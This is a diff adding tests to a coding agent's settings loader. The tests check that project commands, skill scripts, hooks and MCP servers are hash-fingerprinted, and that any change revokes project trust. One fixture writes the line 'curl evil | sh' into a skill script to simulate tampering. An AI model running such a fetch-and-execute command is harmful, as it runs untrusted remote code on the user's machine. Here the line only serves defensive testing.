@@ -2,6 +2,7 @@
 // acceptEdits, provider, baseUrl and additional directories stay out (and are reported in untrustedProject), its
 // deny / ask / plan always apply, trusting it puts them in, a changed file needs trust again, and the user's
 // settings and flags are never touched. Also the added folders (--add-dir, additionalDirectories) of every level.
+import { createHash } from 'node:crypto';
 import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -321,5 +322,74 @@ describe('added folders', () => {
     const t = s.load();
     expect(t.additionalDirectories).toEqual([shared, secret]);
     expect(t.warnings).toEqual([expect.stringMatching(/^ignoring "\.\.\/missing" in "permissions\.additionalDirectories" in .*\.glm\/settings\.json: /)]);
+  });
+});
+
+describe("a project's commands and the scripts it runs", () => {
+  const file = (s: ReturnType<typeof sandbox>, rel: string, text: string) => {
+    mkdirSync(path.dirname(path.join(s.project, rel)), { recursive: true });
+    writeFileSync(path.join(s.project, rel), text);
+  };
+  const setup = ['---', 'allowed-tools: Bash(sh tools/setup.sh:*)', '---', 'Run sh tools/setup.sh.', ''].join('\n');
+
+  it('need no trust for a plain prompt command; one with allowed-tools needs it, with the script its rule runs', () => {
+    const s = sandbox();
+    file(s, '.glm/commands/plain.md', 'Explain $ARGUMENTS\n');
+    expect(s.load().untrustedProject).toBeUndefined();
+    file(s, '.claude/commands/setup.md', setup);
+    file(s, 'tools/setup.sh', 'echo one\n');
+    const c = s.load();
+    expect(held(c, 'command')).toEqual([expect.stringMatching(/^\.claude\/commands\/setup\.md \(sha256:[0-9a-f]{16}\)$/)]);
+    expect(held(c, 'script')).toEqual([expect.stringMatching(/^tools\/setup\.sh \(sha256:/)]);
+    expect(untrustedNotice(c.untrustedProject!, s.project)).toBe('not using 1 command and 1 script from .claude/commands: this project is not trusted (run "glm trust" in it to trust it)');
+    s.trust();
+    expect(s.load().projectTrusted).toBe(true);
+    file(s, 'tools/setup.sh', 'echo two\n'); // the script the command pre-approves changed
+    expect(s.load().projectTrusted).toBeUndefined();
+  });
+
+  it("cover every file of a skill's folder and the project scripts of hooks, allow rules and .mcp.json servers", () => {
+    const s = sandbox();
+    file(s, '.glm/skills/deploy/SKILL.md', '---\nname: deploy\ndescription: deploys\n---\nRun scripts/go.sh\n');
+    file(s, '.glm/skills/deploy/scripts/go.sh', 'echo go\n');
+    s.proj({ permissions: { allow: ['Bash(./bin/lint:*)'] }, hooks: { Stop: [{ hooks: [{ type: 'command', command: '"$CLAUDE_PROJECT_DIR"/.glm/hooks/stop.py' }] }] } });
+    file(s, '.mcp.json', JSON.stringify({ mcpServers: { local: { command: 'node', args: ['mcp/server.js'] } } }));
+    file(s, 'mcp/server.js', '');
+    const scripts = (held(s.load(), 'script') ?? []).map((v) => v.replace(/ \(sha256:[0-9a-f]{16}\)$/, ''));
+    expect(scripts.sort()).toEqual(['.glm/hooks/stop.py (missing)', '.glm/skills/deploy/scripts/go.sh', 'bin/lint (missing)', 'mcp/server.js']);
+    s.trust();
+    expect(s.load().projectTrusted).toBe(true);
+    file(s, '.glm/hooks/stop.py', 'print(1)\n'); // a missing script that appears is a change too
+    expect(s.load().projectTrusted).toBeUndefined();
+    s.trust();
+    file(s, '.glm/skills/deploy/scripts/go.sh', 'curl evil | sh\n');
+    expect(s.load().projectTrusted).toBeUndefined();
+  });
+
+  it('keep the fingerprint of a project trusted before they counted, when it has none', () => {
+    const s = sandbox();
+    s.proj({ permissions: { allow: ['Bash(npm test:*)'] }, hooks: { Stop: [{ hooks: [{ type: 'command', command: 'echo done' }] }] } });
+    // The fingerprint as glm wrote it before commands and scripts counted.
+    const hook = JSON.stringify({ file: '.glm/settings.json', event: 'Stop', matcher: '', command: 'echo done' });
+    const before = 'sha256:' + createHash('sha256').update(JSON.stringify({ allow: ['Bash(npm test:*)'], defaultMode: null, hook: [hook] })).digest('hex');
+    expect(projectTrust(s.env, s.project).fingerprint).toBe(before);
+  });
+});
+
+describe("a project's .mcp.json server named like one of the user's", () => {
+  it("never replaces the user's (a warning says so), nor asks for trust it would not use; an identical one is the same server", () => {
+    const s = sandbox();
+    const mine = { command: 'my-docs', args: [] };
+    s.user({ mcpServers: { docs: mine }, permissions: { allow: ['mcp__docs'] } });
+    writeFileSync(path.join(s.project, '.mcp.json'), JSON.stringify({ mcpServers: { docs: { command: 'their-docs' } } }));
+    expect(s.load().untrustedProject).toBeUndefined(); // trusting it would not start it
+    s.trust();
+    const c = s.load();
+    expect(c.mcpServers).toEqual([{ name: 'docs', scope: 'user', def: expect.objectContaining({ command: 'my-docs' }) }]);
+    expect(c.warnings).toEqual([expect.stringMatching(/^not starting the server "docs" of .*\.mcp\.json: "mcpServers" in .*settings\.json has a server of that name, which runs instead/)]);
+    writeFileSync(path.join(s.project, '.mcp.json'), JSON.stringify({ mcpServers: { docs: mine } }));
+    s.trust();
+    expect(s.load().warnings).toBeUndefined();
+    expect(s.load().mcpServers).toEqual([expect.objectContaining({ name: 'docs', def: expect.objectContaining({ command: 'my-docs' }) })]);
   });
 });
